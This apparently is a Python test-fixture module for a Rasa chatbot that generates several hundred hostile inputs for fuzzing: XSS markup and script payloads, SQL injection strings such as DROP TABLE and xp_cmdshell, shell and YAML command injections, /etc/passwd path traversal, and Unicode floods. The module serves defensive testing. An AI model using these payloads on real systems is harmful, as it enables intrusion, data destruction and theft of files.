"""Lists of hostile texts: markup and script, SQL, and what Rasa takes for commands.

Each list is own work: a few hundred combinations of the ways that are known, rather than somebody's file.
"""

import itertools
import json

import yaml

from tests.conftest import ROOT

# What no page may run and no log may hold.
MARK = "__xss"


def markup() -> list[str]:
    """Markup and script in every place that browsers have run some: at least 100."""
    scripts = ["window.__xss=1", "parent.__xss=1", "eval(atob('X194c3M9MQ=='))", "import('//e.example/__xss')"]
    elements = [
        "<script>{}</script>", "<ScRiPt >{}</sCrIpT>", "<script src=data:,{}>", "<script\n>{}</script\n>",
        "<img src=x onerror={}>", "<img/src/onerror={}>", "<svg/onload={}>",
        "<svg><a xlink:href='javascript:{}'>x</a></svg>", "<svg><set attributeName=href to=javascript:{}>",
        "<svg><use href='data:image/svg+xml,{}'>", "<math href='javascript:{}'>x</math>",
        "<iframe srcdoc='<script>{}</script>'>", "<iframe src=javascript:{}>", "<object data='javascript:{}'>",
        "<video onloadstart={}><source></video>", "<details ontoggle={} open>", "<input autofocus onfocus={}>",
        "<select onfocus={} autofocus>", "<body onpageshow={}>", "<style onload={}></style>",
        "<style>@import 'javascript:{}';</style>", "<div style='animation-name:x' onanimationstart={}>",
        "<form><button formaction='javascript:{}'>x</button></form>", "<isindex type=image src=1 onerror={}>",
        "<noscript><p title='</noscript><img src=x onerror={}>'>", "<a href='&#106;avascript:{}'>x</a>",
        "<a href='java&Tab;script:{}'>x</a>", "<x contenteditable onblur={}>", "![x](javascript:{})",
        "[x](javascript:{})", "<!--><script>{}</script-->",
        "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e '{}'>]><x>&e;</x>",
        "<vxml version='2.1'><form><block><exit expr=\"{}\"/></block></form></vxml>",
        "<prompt><value expr='{}'/></prompt>", "]]><script>{}</script><![CDATA[", "\"><script>{}</script>", "'-{}-'",
        "\\\";{}//", "${{{}}}", "{{{{{}}}}}", "`;{}//", "+ADw-script+AD4-{}+ADw-/script+AD4-",
    ]  # fmt: skip
    browser: list[str] = json.loads((ROOT / "tests" / "browser" / "hostile.json").read_text("utf-8"))
    made = [element.format(script) for element, script in itertools.product(elements, scripts)]
    return list(dict.fromkeys(browser + made))


def sql() -> list[str]:
    """SQL by the ways it is smuggled in, for SQLite first and for others as well: at least 100."""
    breaks = ["'", '"', "`", "')", '")', "'))", "]", "\\'", "%27", "’", "", "1", "-1", "NULL"]
    tails = [
        " OR 1=1--", " OR 'a'='a", " OR 1=1 LIMIT 1 OFFSET 1;--", "; DROP TABLE conversations;--",
        "; DELETE FROM replies;--", " UNION SELECT id, rasa_id FROM conversations--",
        " UNION SELECT sql FROM sqlite_master--", "; ATTACH DATABASE '/tmp/x' AS x;--",
        "; PRAGMA writable_schema=ON;--", " AND randomblob(1000000000)--", "||load_extension('x')||'",
        "; VACUUM INTO '/tmp/x';--", " AND 1=(SELECT count(*) FROM conversations)/*", "; WAITFOR DELAY '0:0:5'--",
        " AND pg_sleep(5)--", "; EXEC xp_cmdshell('id')--",
    ]  # fmt: skip
    return [start + tail for start, tail in itertools.product(breaks, tails)]


def commands() -> list[str]:
    """What Rasa, its channels and its shells take for more than a text."""
    intents = yaml.safe_load((ROOT / "domain.yml").read_text("utf-8"))["intents"]
    names = [
        *intents, "restart", "session_start", "back", "stop", "out_of_scope", "nlu_fallback", "action_restart",
        "action_listen", "action_session_start", "action_default_fallback", "action_back", "EXTERNAL", "..", "",
    ]  # fmt: skip
    entities = [
        "", "{}", '{"country": "mali"}', '{"offer": "obs", "country": null}', '{"country": ["mali", "caraibe"]}', "{",
        '{"__proto__": 1}', "[1]", '{"country": {"$ne": 1}}', "@1.0", '@NaN{"x": 1e999}', " " * 3 + "{}",
    ]  # fmt: skip
    prefixes = ["/", "//", " /", "\u200b/", "／", "EXTERNAL: ", "/EXTERNAL: "]
    loose = [
        "_restart", "/restart now", "restart", "utter_greet", "action_answer", "slot{\"country\": \"mali\"}",
        "/inform;/restart", "![x](/restart)", "[mali](country)", '[mali]{"entity": "country", "value": "caraibe"}',
        "- intent: x", "{{slots}}", "{country}", "%(country)s", "!!python/object/apply:os.system ['id']",
        "!!binary x", "&a *a", "__import__('os')", "$(id)", "`id`", "|| id", "../../../../etc/passwd",
        "file:///etc/passwd", "http://127.0.0.1:5005/conversations",
    ]  # fmt: skip
    made = [prefix + name + entity for name, entity, prefix in itertools.product(names, entities, prefixes)]
    return loose + made


def floods() -> list[str]:
    """Texts that cost more to read than to send, up to a million characters."""
    pieces = [
        "a", "\u0301", "a\u0301\u0302\u0303", "\u200b", "\u202e", "\u2066", "\u0000", "\ud800", "\U000e0041", "😀",
        "👩‍👩‍👧‍👦", "ﷺ", "ǆ", "ß", "İ", "\u1100\u1161\u11a8", "\n", "\u2028", " ", "\u00a0", "é", "/", "{", "[", "\\",
        '"', "'", "0", "9 ", "+223 ", "a@", "a.", "FR76", "1,", "mes données ", "je ", "?!", "́ ", "\ufffd", "\uffff",
        "\U0010ffff", "ก็",
    ]  # fmt: skip
    return [piece * (length // len(piece)) for piece in pieces for length in (999, 1000, 1001, 5000, 16_000, 1_000_000)]
